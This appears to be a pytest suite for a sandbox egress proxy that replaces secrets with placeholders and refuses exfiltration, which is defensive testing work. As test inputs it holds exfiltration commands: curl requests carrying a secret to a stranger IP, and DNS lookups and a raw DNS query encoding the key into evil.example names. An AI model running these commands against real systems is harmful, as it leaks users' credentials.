"""A cell holds placeholders; what leaves it carries the real thing, where it may and nowhere else."""
import base64
import binascii
import gzip
import hashlib
import hmac
import inspect
import json
import os
import re
import urllib.parse
import zlib
from pathlib import Path

import pytest

from egress_lab import CURL, WEBSOCKET, helpers_of, memory_of, needs_python
from operators import IS_STATIC, wait_until

OPEN = "  - allow: '*.example.test'\n"
UP = "https://up.example.test"


def canary():
    return "cAnary" + binascii.hexlify(os.urandom(17)).decode()


def give(online, value, *options, name="KEY"):
    """A secret of the operator's that may go to up.example.test."""
    options = options or ("--in", "header:authorization")
    online.operator.cloister("secret", "add", name, "--host", "up.example.test", *options,
                             input=value).ok()


def sh(online, script, options=("-s", "KEY"), rules=OPEN):
    """A script in a cell with the secret; its first line is the placeholder."""
    done = online.sh(rules, f"echo $KEY; {script}", options=options)
    fake, _, rest = done.out.partition("\n")
    return done, fake, rest


def renderings(value):
    """The encodings that servers may use, each with the part that gives the value away."""
    raw = value.encode()
    coded = [base64.b64encode(b"xyz"[:skip] + raw + b"tail").decode() for skip in range(3)]
    plain = [value, raw.hex(), "".join(f"%{b:02x}" for b in raw), "".join(f"\\u{b:04x}" for b in raw)]
    return [(text, text) for text in plain] + [(text, text[8:-12]) for text in coded]


def fetch(*words):
    return " ".join([*CURL, *words])


# ---- where it may go ---------------------------------------------------------------------

@pytest.mark.parametrize("version", ["--http1.1", "--http2"])
def test_a_header(online, version):
    real = canary()
    give(online, real)
    done, fake, said = sh(online, fetch(version, '-H "Authorization: Bearer $KEY"', f"{UP}/echo?header"))
    assert len(fake) == len(real) and fake != real
    assert online.lab.seen(real) and not online.lab.seen(fake)
    # The server told what it got; the cell was told what it sent.
    assert ["authorization", f"Bearer {fake}"] in json.loads(said)["fields"]
    assert real not in done.out + done.err
    event, = online.events(type="http")
    assert event["verdict"] == "allow" and event["status"] == 200


OTHER = "https://www.example.test"


@pytest.mark.parametrize("words, is_mistake", [
    ('-d "$KEY" ' + f"{UP}/echo", True), ('-H "X-Other: $KEY" ' + f"{UP}/echo", True),
    ('-H "Authorization: Bearer $KEY" ' + UP.replace("https", "http") + ":443/echo", True),
    ('-H "Authorization: Bearer $KEY" ' + UP + ":8443/echo", False),
    ('-H "Authorization: Bearer $KEY" ' + f"{OTHER}/echo", False), ('-d "$KEY" ' + f"{OTHER}/echo", False)],
    ids=["body", "header", "no TLS", "other port", "other host", "body of another"])
def test_a_mistake_is_marked(online, words, is_mistake):
    """A placeholder on its way to its secret's own host; it is refused all the same."""
    real = canary()
    give(online, real)
    done, fake, _ = sh(online, fetch(words))
    event = online.refusal(type="http")
    assert event["why"] == "exfiltration" and event.get("misplaced", False) is is_mistake
    assert not online.lab.seen(real) and not online.lab.seen(fake)


LATER = '{ printf %s "$KEY"; head -c 3000000 /dev/zero | tr "\\0" a; printf %s "$THEIRS"; } >body; '


@pytest.mark.parametrize("script", [
    fetch('-H "X-One: $KEY" -H "X-Two: $THEIRS"', f"{UP}/echo"),
    fetch('--http1.1 -H "X-One: $KEY" -d "$THEIRS"', f"{UP}/echo"),
    fetch('-d "$KEY and $THEIRS"', f"{UP}/echo"),
    LATER + fetch("--http1.1 -X POST -T body", f"{UP}/echo"),
    fetch('-H "X-One: $KEY" -H "X-Two: $THEIRS"', f"{UP}/none"),
    fetch('--http1.1 -d "$KEY and $THEIRS"', f"{UP}/none")],
    ids=["head", "head, then body", "body", "long body", "refused, head", "refused, body"])
def test_a_mistake_hides_no_theft(online, script):
    """Two placeholders: the first is on its way to its own host, the second is another host's."""
    mine, theirs = canary(), canary()
    give(online, mine)
    online.operator.cloister("secret", "add", "THEIRS", "--host", "www.example.test", "--in", "header:authorization",
                             input=theirs).ok()
    rules = "  - deny: up.example.test\n    paths: [/none]\n" + OPEN + "    body: {max: 64M}\n"
    done, fake, _ = sh(online, script, options=("-s", "KEY", "-s", "THEIRS"), rules=rules)
    event = online.refusal(type="http")
    assert event["why"] == "exfiltration" and "'THEIRS'" in event["note"] and not event.get("misplaced", False), event
    assert not any(online.lab.seen(text) for text in (mine, theirs, fake))


def test_a_password(online):
    real = canary()
    give(online, real, "--in", "basic-password")
    done, fake, said = sh(online, fetch('-u "me:$KEY"', f"{UP}/echo"))
    sent = base64.b64encode(f"me:{real}".encode()).decode()
    assert online.lab.seen(f"Basic {sent}")
    coded = base64.b64encode(f"me:{fake}".encode()).decode()
    assert ["authorization", f"Basic {coded}"] in json.loads(said)["fields"]


def test_a_query(online):
    real = canary() + "+/="
    give(online, real, "--in", "query:key")
    done, fake, said = sh(online, fetch("-G --data-urlencode", '"key=$KEY"', f"{UP}/echo"))
    assert online.lab.seen("?key=" + urllib.parse.quote(real, safe=""))
    assert real not in done.out and urllib.parse.quote(real, safe="") not in done.out
    event, = online.events(type="http")
    assert event["path"] == "/echo" and event["query"] is True


@pytest.mark.parametrize("chunked", [False, True])
def test_a_body_of_any_size(online, chunked):
    """Behind more than any buffer holds, in JSON, and across pieces."""
    real = canary()
    give(online, real, "--in", "body")
    chunks = '-H "Transfer-Encoding: chunked"' if chunked else ""
    rules = OPEN + "    body: {max: 64M}\n"
    done, fake, said = sh(online, '{ head -c 3000000 /dev/zero | tr "\\0" a; printf %s "$KEY"; echo; '
                          "head -c 1000000 /dev/zero | tr '\\0' b; } >body; sha256sum <body; "
                          + fetch("--http1.1 -X POST -T body", chunks, f"{UP}/echo"), rules=rules)
    before, _, said = said.partition("\n")
    sent = b"a" * 3000000 + real.encode() + b"\n" + b"b" * 1000000
    assert before.split()[0] == hashlib.sha256(sent.replace(real.encode(), fake.encode())).hexdigest()
    assert json.loads(said)["sha256"] == hashlib.sha256(sent).hexdigest()


def test_a_body_that_a_rule_reads(online):
    """The rule sees what the agent wrote; the server gets what is meant."""
    real = canary()
    give(online, real, "--in", "body")
    rules = "  - allow: up.example.test\n    body: {json: {/kind: [good]}}\n"
    script = fetch("-H 'content-type: application/json' -d",
                   '"{\\"kind\\": \\"$KIND\\", \\"key\\": \\"$KEY\\"}"', f"{UP}/echo")
    done, fake, said = sh(online, script.replace("$KIND", "good"), rules=rules)
    sent = json.dumps({"kind": "good", "key": real}).encode()
    assert json.loads(said)["sha256"] == hashlib.sha256(sent).hexdigest()
    done, _, said = sh(online, script.replace("$KIND", "bad"), rules=rules)
    assert json.loads(said)["error"] == "refused by cloister"


MESSAGES = WEBSOCKET + """
async def main():
    head = {"Authorization": "Bearer " + os.environ["KEY"]}
    async with websockets.connect("wss://ws.example.test/x", max_size=1 << 26, **{FIELDS: head}) as ws:
        print(os.environ["KEY"])
        await ws.recv()
        for text in (sys.argv[1].replace("KEY", os.environ["KEY"]), "x" * 3000000 + "."):
            await ws.send(text)
            print((await ws.recv())[-200:])
asyncio.run(main())
"""
WS = "  - allow: ws.example.test\n    websocket: true\n"


def give_ws(online, real, *places):
    online.operator.cloister("secret", "add", "KEY", "--host", "ws.example.test",
                             "--in", "header:authorization", *places, input=real).ok()


@needs_python("websockets")
def test_messages_of_a_websocket(online):
    real = canary()
    give_ws(online, real, "--in", "websocket")
    done = online.python(WS, MESSAGES, "my key is KEY, and KEY", options=("-s", "KEY"))
    fake, first, second = done.ok().splitlines()
    # The server gave back what it got.
    assert first.endswith(f"my key is {fake}, and {fake}") and second.endswith("x.")
    assert online.lab.seen(f"Bearer {real}") and real not in done.out
    assert online.lab.seen(f"my key is {real}, and {real}")


@needs_python("websockets")
def test_a_message_where_it_may_not_be(online):
    real = canary()
    give_ws(online, real)
    done = online.python(WS, MESSAGES, "my key is KEY", options=("-s", "KEY"))
    assert done.status != 0 and "my key is" not in done.out
    assert online.refusal()["why"] == "exfiltration"


# ---- where it may not --------------------------------------------------------------------

@pytest.mark.parametrize(("words", "why"), [
    ('-H "X-Other: $KEY"', "in a header x-other, where it may not be: its places are header:authorization"),
    ('-H "Authorization: Bearer $KEY" https://www.example.test/hello', "'www.example.test' is not among its hosts"),
    (f'"{UP}/echo?key=$KEY"', "in the query, where"), (f'"{UP}/echo/$KEY"', "in the path, where"),
    ('-d "{\\"a\\":\\"$KEY\\"}"', "in the body, where"),
    ('-H "X-Other: $(printf %s "$KEY" | base64 -w0)"', "in a header x-other"),
    ('-H "X-$KEY: 1"', "in the name of a header, where"),
    ('-u "me:$KEY"', "in a password, where"),
])
def test_anywhere_else_is_refused(online, words, why):
    real = canary()
    give(online, real)
    url = "" if "https://" in words else f"{UP}/echo"
    done, fake, said = sh(online, fetch(words, url))
    assert json.loads(said)["error"] == "refused by cloister"
    assert "placeholder of the secret 'KEY'" in json.loads(said)["reason"]
    assert why in json.loads(said)["reason"] and why in online.refusal()["note"]
    assert online.refusal()["why"] == "exfiltration"
    assert not online.lab.seen(fake) and not online.lab.seen(real)
    # The remedy is another place, or another host.
    told = online.operator.cloister("why", online.cell).ok()
    is_elsewhere = "not among its hosts" in why
    assert ("--in header --in query" in told) != is_elsewhere and ("-s NAME@HOST:PORT" in told) == is_elsewhere, told
    assert ("with --in" in json.loads(said)["hint"]) != is_elsewhere, said


def test_another_host_without_tls(online):
    """Both that it is another host and that it has no TLS."""
    give(online, canary())
    said = sh(online, fetch('-H "Authorization: Bearer $KEY" http://www.example.test/hello', ""))[2]
    assert "with --host HOST:PORT and --plain" in json.loads(said)["hint"], said


@pytest.mark.parametrize("words", [
    '-H "X: $KEY"', '"http://93.184.216.99/?$KEY"', '-d "$KEY"', '-k --http2 -H "X: $KEY" https://93.184.216.99/',
    '-H "Transfer-Encoding: chunked" -d "{\\"a\\":\\"$KEY\\"}"'])
def test_exfiltration_where_no_rule_allows_it(online, words):
    """The most usual way: to some stranger's address. Nothing leaves, but it is recorded as exfiltration."""
    give(online, canary())
    url = "" if "://" in words else "http://93.184.216.99/"
    done, fake, said = sh(online, fetch(words, url))
    assert json.loads(said)["error"] == "refused by cloister"
    event = online.refusal(type="http")
    assert event["why"] == "exfiltration" and event["status"] == 403
    assert "'93.184.216.99' is not among its hosts" in event["note"]
    assert "exfiltration" in online.operator.cloister("events", online.cell).ok() and "placeholder" in done.err


@pytest.mark.parametrize("rules", [
    "  - deny: up.example.test\n    body: {regex: forbidden}\n" + OPEN,
    "  - allow: up.example.test\n    body: {regex: permitted}\n",
    "  - allow: up.example.test\n    rewrite: {json: {set: {/a: 1}}}\n",
], ids=["denied", "no-rule", "not-to-be-changed"])
@pytest.mark.parametrize("more", ["", '-H "Transfer-Encoding: chunked"'])
def test_so_is_a_body_that_was_held(online, rules, more):
    """The body was complete when the request was refused because of it."""
    give(online, canary())
    done, fake, said = sh(online, fetch(more, '-H "Content-Type: application/json" -d "forbidden: $KEY"', f"{UP}/echo"),
                          rules=rules)
    assert json.loads(said)["error"] == "refused by cloister"
    event = online.refusal(type="http")
    assert event["why"] == "exfiltration" and "in the body, where it may not be" in event["note"], event
    assert not online.lab.seen(fake)


NAME = "$(printf %s \"$KEY\" | sed 's/.\\{19\\}/&./g').evil.example"
GATE = "http://198.18.0.1:3128"
PTR = """import os, socket
labels = [os.environ["KEY"][:60], os.environ["KEY"][60:], "evil", "example"]
name = b"".join(bytes([len(label)]) + label.encode() for label in labels if label) + b"\\0"
s = socket.create_connection(("198.18.0.1", 53))
question = b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + name + b"\\0\\14\\0\\1"
s.sendall(bytes([0, len(question)]) + question)
assert s.recv(512)[5] & 15 == 3
"""


@pytest.mark.parametrize(("size", "script", "kind"), [
    (0, "getent ahostsv4 $KEY.evil.example", "dns"), (70, f"getent ahostsv4 {NAME}", "dns"),
    (0, "getent ahostsv4 $(printf %s x-$KEY-y | tr a-z A-Z).example.test", "dns"),
    (0, f"/usr/bin/python3 -c '{PTR}'", "dns"), (70, f"/usr/bin/python3 -c '{PTR}'", "dns"),
    (70, f"curl -s -x {GATE} https://{NAME}/", "tcp"), (70, f"curl -s -x {GATE} http://{NAME}/", "http"),
    (0, f"curl -s -x {GATE} http://$KEY.example.test/", "http"),
    (70, f"curl -s -x socks5h://198.18.0.1:1080 https://{NAME}/", "tcp"),
    (70, f"curl -s --resolve {NAME}:443:93.184.216.99 https://{NAME}/", "tls"),
    (70, f"curl -s --resolve {NAME}:80:93.184.216.99 http://{NAME}/", "http"),
], ids=["label", "labels", "upper", "ptr", "ptr-labels", "connect", "proxy", "allowed", "socks", "sni", "host"])
def test_exfiltration_in_a_name(online, size, script, kind):
    """Names have no case, and their labels have at most 63 bytes: a placeholder is found without its dots. It is
    refused even in a name that a rule allows."""
    value = canary() + binascii.hexlify(os.urandom(size // 2)).decode()
    give(online, value)
    done, fake, said = sh(online, f"{script} || true")
    assert len(fake) == len(value)
    event = online.refusal()
    assert (event["why"], event["type"]) == ("exfiltration", kind), event
    assert "the placeholder of the secret 'KEY' is in the " in event["note"], event
    assert fake.lower() in event["host"].replace(".", "") or event["host"] == "93.184.216.99", event
    assert online.events(verdict="allow") == []
    said = online.operator.cloister("why", online.cell).ok()
    assert "placeholder of the secret 'KEY'" in said and "would allow it" not in said


def test_a_similar_name_is_not_exfiltration(online):
    """All but its last byte, and in another order."""
    give(online, canary())
    # The next label must not begin with the byte that is left out.
    sh(online, "to=evil; case $KEY in *e) to=bad;; esac; getent ahostsv4 ${KEY%?}.$to.example; "
               "getent ahostsv4 ${KEY#????}.${KEY%?}.$to.example; true")
    assert {e["why"] for e in online.events(type="dns")} == {"no-rule"}


def test_a_refused_request_to_the_secrets_host_is_not_exfiltration(online):
    """The secret may go there, though this request may not."""
    give(online, canary(), "--in", "header:authorization", "--in", "body")
    rules = "  - deny: up.example.test\n    paths: [/echo]\n" + OPEN
    sh(online, fetch('-H "Authorization: Bearer $KEY" -d "$KEY"', f"{UP}/echo"), rules=rules)
    assert online.refusal(type="http")["why"] == "rule"


def test_a_refused_body_that_never_ends(online):
    """The refusal is reported at once all the same, and so are later findings."""
    give(online, canary())
    script = """import os, socket, time
s = socket.create_connection(("93.184.216.99", 80))
s.sendall(b"POST / HTTP/1.1\\r\\nHost: 93.184.216.99\\r\\nContent-Length: 100000\\r\\n\\r\\nx")
print(s.recv(12).decode(), flush=True)
while not os.path.exists("go"): time.sleep(0.05)
s.sendall(os.environ["KEY"].encode() + b" ")
while s.recv(65536): pass
"""
    online.start(OPEN, "/usr/bin/python3", "-c", script, options=("-s", "KEY"))
    wait_until(lambda: online.events(type="http", why="no-rule"), "it is recorded")
    online.inside("touch", "go").ok()
    wait_until(lambda: online.events(type="http", why="exfiltration"), "what was in it is recorded")
    online.operator.cloister("kill", online.cell).ok()


def test_messages_about_exfiltration(online):
    give(online, canary())
    _, _, answer = sh(online, fetch('-H "X-Other: $KEY"', f"{UP}/echo"))
    assert "`cloister secret remove`, then `add` with --in" in json.loads(answer)["hint"]
    assert "exfiltration: a placeholder is where it may not be" in online.operator.cloister("events", online.cell).ok()
    said = online.operator.cloister("why", online.cell).ok()
    assert "the placeholder of the secret 'KEY' is in a header" in said
    assert "would allow it" not in said         # no rule does
    assert "`--in header --in query`" in said and "NAME@HOST" not in said


def test_responses_contain_no_value(online):
    """However a server encodes it."""
    real = canary()
    give(online, real)
    page = "\n".join(text for text, _ in renderings(real)) + "\n"
    where = online.lab.raw(f"HTTP/1.1 200 OK\r\nx-told: {real}\r\ncontent-type: text/plain\r\n"
                           f"content-length: {len(page)}\r\n\r\n{page}".encode())
    done, fake, said = sh(online, fetch("--http1.1 -i", '-H "Authorization: Bearer $KEY"', f"'{UP}{where}'"))
    assert "200" in said
    for _, text in renderings(real):
        assert text.lower() not in said.lower()
    assert f"x-told: {fake}" in said


def packed(data, coding):
    """DATA in CODING; the test is skipped if there is no program for it."""
    for name in coding.split(", "):
        if name == "br":
            data = pytest.importorskip("brotli").compress(data)
        elif name == "zstd":
            data = pytest.importorskip("zstandard").compress(data)
        else:
            data = {"gzip": gzip.compress, "deflate": zlib.compress}[name](data)
    return data


@pytest.mark.parametrize("version", ["--http1.1", "--http2"])
@pytest.mark.parametrize("coding", ["gzip", "deflate", "br", "zstd", "gzip, br"])
def test_packed_answers_are_unpacked(online, version, coding):
    """Although it was not asked for: the cell gets it plain, and without what is secret."""
    real = canary()
    give(online, real)
    page = f"{real}\n" + "x" * 3000000 + "".join(f"{text}\n" for text, _ in renderings(real))
    data = packed(page.encode(), coding)
    head = (f"HTTP/1.1 200 OK\r\ncontent-encoding: {coding}\r\netag: \"1\"\r\ncontent-md5: x\r\n"
            f"content-length: {len(data)}\r\n\r\n")
    where = online.lab.raw(head.encode() + data)
    host = UP if version == "--http1.1" else "https://www.example.test/up"
    give_all = ("--host", "www.example.test", "--in", "header:authorization")
    online.operator.cloister("secret", "add", "WWW", "--env", "KEY", *give_all, input=real).ok()
    done, fake, said = sh(online, fetch(version, '-i -H "Authorization: Bearer $KEY"', f"'{host}{where}'"),
                          options=("-s", "KEY" if host == UP else "WWW"))
    head, body = re.split("\r?\n\r?\n", said, maxsplit=1)
    assert "content-encoding" not in head and "content-length" not in head and "content-md5" not in head
    assert 'etag: W/"1"' in head
    assert len(body) == len(page) and body.startswith(f"{fake}\nxxx")
    for _, text in renderings(real):
        assert text.lower() not in said.lower()
    assert online.lab.seen("accept-encoding") and online.lab.seen("identity")


def test_a_packed_answer_that_is_broken(online):
    real = canary()
    give(online, real)
    data = gzip.compress(b"some" * 100000)[:-4]
    where = online.lab.raw(b"HTTP/1.1 200 OK\r\ncontent-encoding: gzip\r\n\r\n" + data)
    done, _, said = sh(online, fetch("--http1.1 -o /dev/null", f"'{UP}{where}' || echo failed"))
    assert "failed" in said
    assert "gzip data are cut short" in online.events(type="http")[-1]["note"]


def test_an_unknown_content_coding(online):
    real = canary()
    give(online, real)
    where = online.lab.raw(b"HTTP/1.1 200 OK\r\ncontent-encoding: rot13\r\ncontent-length: 3\r\n\r\nabc")
    done, _, said = sh(online, fetch("--http1.1", '-H "Authorization: Bearer $KEY"', f"'{UP}{where}'"))
    assert "packed, and its content coding is not known here" in json.loads(said)["reason"]


def test_a_bomb(online):
    """Much out of little goes on no faster than it is taken, and takes no memory."""
    real = canary()
    give(online, real)
    engine = zlib.compressobj(9, zlib.DEFLATED, 31)
    data = b"".join(engine.compress(bytes(1 << 20)) for _ in range(128)) + engine.flush()
    where = online.lab.raw(f"HTTP/1.1 200 OK\r\ncontent-encoding: gzip\r\ncontent-length: {len(data)}\r\n"
                           "\r\n".encode() + data)
    online.start(OPEN, "sh", "-c", "mkfifo go; " + fetch("--http1.1 --max-time 300", f"'{UP}{where}'") +
                 " | { head -c 1000 | wc -c >first; cat go; wc -c >rest; }; exec sleep 1000", options=("-s", "KEY"))
    wait_until(lambda: online.inside("sh", "-c", "test -s first").status == 0, "some of it has come")
    assert memory_of(online.operator, online.cell)["courier"] < 16 << 20
    online.inside("sh", "-c", "echo >go").ok()
    wait_until(lambda: online.inside("sh", "-c", "test -s rest").status == 0, "the rest has come", 120)
    assert memory_of(online.operator, online.cell)["courier"] < 16 << 20
    assert online.inside("cat", "rest").out.strip().isdigit()


@pytest.mark.skipif(not IS_STATIC, reason="a sanitizer's processes look different")
def test_it_is_in_no_process_but_the_courier(online):
    real = canary().encode()
    give(online, real.decode())
    online.start(OPEN, "sh", "-c", fetch('-H "Authorization: Bearer $KEY"', f"{UP}/echo") +
                 "; exec sleep 1000", options=("-s", "KEY"))
    wait_until(lambda: online.lab.seen(real.decode()), "the request has been made")
    helpers = helpers_of(online.operator, online.cell)
    holders = set()
    for pid in online.operator.pids(online.cell):
        try:
            found = has(pid, real)
        except OSError:
            pytest.skip("only root may look into processes")
        if found:
            holders.add(pid)
        assert real not in Path(f"/proc/{pid}/cmdline").read_bytes()
        assert real not in Path(f"/proc/{pid}/environ").read_bytes()
    assert holders == {helpers["courier"]}


def strays(pid, needle):
    """Where NEEDLE is in a process's memory, but for pages that are locked and left out of dumps."""
    found, spans, flags = [], [], {}
    for line in Path(f"/proc/{pid}/smaps").read_text().splitlines():
        if re.match("[0-9a-f]+-", line):
            spans.append(line)
        elif line.startswith("VmFlags:"):
            flags[spans[-1]] = line.split()
    with open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for line in spans:
            start, end = (int(x, 16) for x in line.split()[0].split("-"))
            if "r" not in line.split()[1] or "[v" in line or {"lo", "dd"} <= set(flags[line]):
                continue
            try:
                memory.seek(start)
                data = memory.read(end - start)
            except OSError:
                continue
            found += [(line.split()[-1], data[max(m.start() - 80, 0):m.end() + 40]) for m in re.finditer(re.escape(needle), data)]
    return found


@pytest.mark.skipif(not IS_STATIC, reason="a sanitizer's processes look different")
@pytest.mark.parametrize("words", [
    '--http1.1 -H "Authorization: Bearer $KEY"', '--http2 -H "Authorization: Bearer $KEY"',
    '--http2 -d "key=$KEY"', '-u "me:$KEY" -d "{\\"a\\": \\"$KEY\\"}"',
    '-H "transfer-encoding: chunked" --data-binary @large', '-d @large',
    '-H "Authorization: Bearer $KEY" -d a=b', '-H "Authorization: Bearer $KEY" -d @large',
    '-H "Authorization: Bearer $KEY" -H "transfer-encoding: chunked" --data-binary @large',
], ids=["header", "h2", "form", "basic", "stream", "held", "header-form", "header-held", "header-stream"])
@pytest.mark.parametrize("host", ["up.example.test", "www.example.test/up"], ids=["1.1", "2"])
def test_no_copy_of_the_value_stays(online, words, host):
    """After a request the value is in guarded memory, and nowhere else in the courier."""
    real = canary()
    online.operator.cloister("secret", "add", "KEY", "--host", host.partition("/")[0], "--in", "header",
                             "--in", "basic-password", "--in", "body", input=real).ok()
    online.start(OPEN, "sh", "-c", '{ printf "%30000s" .; echo "$KEY"; printf "%70000s" . ; } >large; '
                 f'curl -s --max-time 20 -o /dev/null {words} "https://{host}/reflect?seed=7"; '
                 'touch done; exec sleep 1000', options=("-s", "KEY"))
    wait_until(lambda: online.inside("test", "-e", "done").status == 0, "the request has been made")
    wait_until(lambda: online.events(type="http"), "it is recorded")
    pid = helpers_of(online.operator, online.cell)["courier"]
    try:
        found = strays(pid, real.encode()) + strays(pid, base64.b64encode(f"me:{real}".encode()))
    except OSError:
        pytest.skip("only root may look into processes")
    assert not found
    assert has(helpers_of(online.operator, online.cell)["courier"], real.encode())


def has(pid, needle):
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for line in maps:
            span, rights = line.split()[:2]
            start, end = (int(x, 16) for x in span.split("-"))
            if "r" not in rights or "[v" in line:
                continue
            try:
                memory.seek(start)
                if needle in memory.read(end - start):
                    return True
            except OSError:
                continue
    return False


def test_responses_to_other_requests_contain_no_value(online):
    """A server that once got a value may return it at any time."""
    real = canary()
    give(online, real)
    where = online.lab.raw(f"HTTP/1.1 200 OK\r\ncontent-length: {len(real)}\r\n\r\n{real}".encode())
    done, fake, said = sh(online, fetch("--http1.1", f"'{UP}{where}'"))
    assert said == fake and real not in done.out


def test_partial_responses_contain_no_value(online):
    """Half of a value could not be found, so a client that asks for a part gets the whole response."""
    real = canary()
    name = f"{canary()}.txt"
    online.lab.file(name, real)
    online.operator.cloister("secret", "add", "KEY", "--host", "www.example.test", "--in", "body", input=real).ok()
    part = ["-H 'Range: bytes=0-6'", "-H 'If-Range: x'", f"https://www.example.test/{name}"]
    for version in ("--http1.1", "--http2"):
        done, fake, said = sh(online, fetch(version, "-r 7-13", part[-1]) + "; echo; " + fetch(version, *part))
        assert said == f"{fake}\n{fake}" and real not in done.out
    # Where no secret goes, parts are what they are.
    online.operator.cloister("secret", "remove", "KEY").ok()
    give(online, real)
    done, _, said = sh(online, fetch("-r 7-13 -w ' %{http_code}'", part[-1]))
    assert said == f"{real[7:14]} 206"


@pytest.mark.parametrize("name", ["Range", "Request-Range", "X-Ms-Range"])
def test_other_names_of_a_range(online, name):
    give(online, canary())
    sh(online, fetch(f"-H '{name}: bytes=0-6'", f"{UP}/echo?of={name}"))
    seen = json.loads(online.lab.seen(f"/echo?of={name}")[-1])
    assert name.lower() not in dict(seen["fields"])


def test_an_unrequested_range(online):
    real = canary()
    give(online, real)
    for fields in (f"content-range: bytes 0-6/{len(real)}", "content-type: multipart/byteranges; boundary=x"):
        where = online.lab.raw(f"HTTP/1.1 206 OK\r\n{fields}\r\ncontent-length: 7\r\n\r\n{real[:7]}".encode())
        done, _, said = sh(online, fetch("--http1.1", f"'{UP}{where}'"))
        assert "a part that was not asked for" in json.loads(said)["reason"]
    # Of a list, as databases have them, it is no part of a value.
    where = online.lab.raw(b"HTTP/1.1 206 OK\r\ncontent-range: 0-6/9\r\ncontent-length: 2\r\n\r\n[]")
    assert sh(online, fetch("--http1.1", f"'{UP}{where}'"))[2] == "[]"


def test_a_part_by_a_request_that_is_signed(online):
    """No part of that request can be left out; a signing key alone is sent to no server."""
    online.operator.cloister("secret", "add", "AWS", "--like", "aws", "--host", "up.example.test",
                             input=f"AKIA{'B' * 16}\n{canary()[:40]}\n").ok()
    give(online, canary())
    ask = fetch("--http1.1 --aws-sigv4 aws:amz:eu-west-1:execute-api -H 'Range: bytes=0-6'",
                '-u "$AWS_ACCESS_KEY_ID:$AWS_SECRET_ACCESS_KEY"', f"{UP}/echo")
    done = online.sh(OPEN, ask, options=("-s", "AWS"))
    assert ["range", "bytes=0-6"] in json.loads(done.out)["fields"]
    done = online.sh(OPEN, ask, options=("-s", "AWS", "-s", "KEY"))
    assert "asks for a part" in json.loads(done.out)["reason"]
    assert online.refusal()["why"] == "credential"


def test_two_codings(online):
    real = canary()
    give(online, real)
    where = online.lab.raw(b"HTTP/1.1 200 OK\r\ncontent-encoding: identity\r\ncontent-encoding: gzip\r\n"
                           b"content-length: 3\r\n\r\nabc")
    done, _, said = sh(online, fetch("--http1.1", '-H "Authorization: Bearer $KEY"', f"'{UP}{where}'"))
    assert done.out.count("abc") == 0 and "upstream" in said


def test_a_trailer_contains_no_value(online):
    give(online, canary())
    script = """import os, socket, ssl
s = ssl.create_default_context().wrap_socket(socket.create_connection(("up.example.test", 443)),
                                            server_hostname="up.example.test")
s.sendall(b"POST /echo HTTP/1.1\\r\\nHost: up.example.test\\r\\nTrailer: x-t\\r\\nTransfer-Encoding: chunked\\r\\n"
          b"Connection: close\\r\\n\\r\\n1\\r\\na\\r\\n0\\r\\nx-t: " + os.environ["KEY"].encode() + b"\\r\\n\\r\\n")
print(os.environ["KEY"])
while data := s.recv(65536): print(data.decode())
"""
    done = online.python(OPEN, script, options=("-s", "KEY"))
    fake = done.out.splitlines()[0]
    assert online.refusal()["why"] == "exfiltration"
    assert not online.lab.seen(fake)


def test_values_far_longer_than_their_placeholders(online):
    """A body that would grow beyond bounds is refused, and the courier lives."""
    part = base64.urlsafe_b64encode(os.urandom(3000)).decode().rstrip("=")
    head = base64.urlsafe_b64encode(b'{"alg":"HS256","typ":"JWT"}').decode().rstrip("=")
    give(online, f"{head}.{part}.{part[:43]}", "--in", "body", "--shape", "jwt")
    online.start(OPEN + "    body: {max: 64M}\n", "sh", "-c", "for i in $(seq 3000); do printf '%s ' \"$KEY\"; "
                 "done >body; while [ ! -e go ]; do :; done; " + fetch(
                     "--http1.1 -H Expect: -H 'Transfer-Encoding: chunked' -X POST -T body", f"{UP}/echo", ">out; ") +
                 fetch(f"{UP}/echo", ">again; exec sleep 1000"), options=("-s", "KEY"))
    online.inside(*CURL, f"{UP}/echo").ok()
    before = helpers_of(online.operator, online.cell)["courier"]
    online.inside("touch", "go").ok()
    wait_until(lambda: online.inside("sh", "-c", "test -s again").status == 0, "both requests are over")
    assert helpers_of(online.operator, online.cell)["courier"] == before


# ---- signatures --------------------------------------------------------------------------

def sigv4(secret, method, target, fields, body, region, service):
    """AWS's own recipe, for a request without a query: the signature that is right."""
    fields = dict(fields)
    scope = fields["x-amz-date"][:8], region, service, "aws4_request"
    signed = fields["authorization"].split("SignedHeaders=")[1].split(",")[0]
    canonical = "\n".join([method, target, "", *(f"{n}:{fields[n]}" for n in signed.split(";")), "",
                           signed, hashlib.sha256(body).hexdigest()])
    text = "\n".join(["AWS4-HMAC-SHA256", fields["x-amz-date"], "/".join(scope),
                      hashlib.sha256(canonical.encode()).hexdigest()])
    key = f"AWS4{secret}".encode()
    for part in scope:
        key = hmac.new(key, part.encode(), hashlib.sha256).digest()
    return hmac.new(key, text.encode(), hashlib.sha256).hexdigest()


def test_a_signature_is_made_anew(online):
    """curl signs with the placeholder; the server checks with the key."""
    real_id, real = "AKIA" + "".join(base64.b32encode(os.urandom(10)).decode()), canary()[:40]
    online.operator.cloister("secret", "add", "AWS", "--like", "aws", "--host", "up.example.test",
                             input=f"{real_id}\n{real}\n").ok()
    done = online.sh(OPEN, "echo $AWS_ACCESS_KEY_ID; " + fetch(
        "--http1.1 --aws-sigv4 aws:amz:eu-west-1:execute-api",
        '-u "$AWS_ACCESS_KEY_ID:$AWS_SECRET_ACCESS_KEY" -d "some=body"', f"{UP}/echo"),
        options=("-s", "AWS"))
    fake_id, _, said = done.out.partition("\n")
    assert fake_id.startswith("AKIA") and fake_id != real_id
    assert json.loads(said)["method"] == "POST"
    seen = json.loads(online.lab.seen(real_id)[-1])
    fields = dict(seen["fields"])
    right = sigv4(real, "POST", "/echo", seen["fields"], b"some=body", "eu-west-1", "execute-api")
    assert fields["authorization"].endswith(f"Signature={right}")
    assert f"Credential={real_id}/" in fields["authorization"]
    # What the server told of it came back with the placeholder's id.
    assert real_id not in done.out and fake_id in said


def test_a_wrong_signature_is_refused(online):
    online.operator.cloister("secret", "add", "AWS", "--like", "aws", "--host", "up.example.test",
                             input=f"AKIA{'B' * 16}\n{canary()[:40]}\n").ok()
    done = online.sh(OPEN, fetch("--http1.1 --aws-sigv4 aws:amz:eu-west-1:execute-api",
                                 '-u "$AWS_ACCESS_KEY_ID:another"', f"{UP}/echo?wrong"),
                     options=("-s", "AWS"))
    assert json.loads(done.out)["error"] == "refused by cloister"
    assert online.refusal()["why"] == "credential"
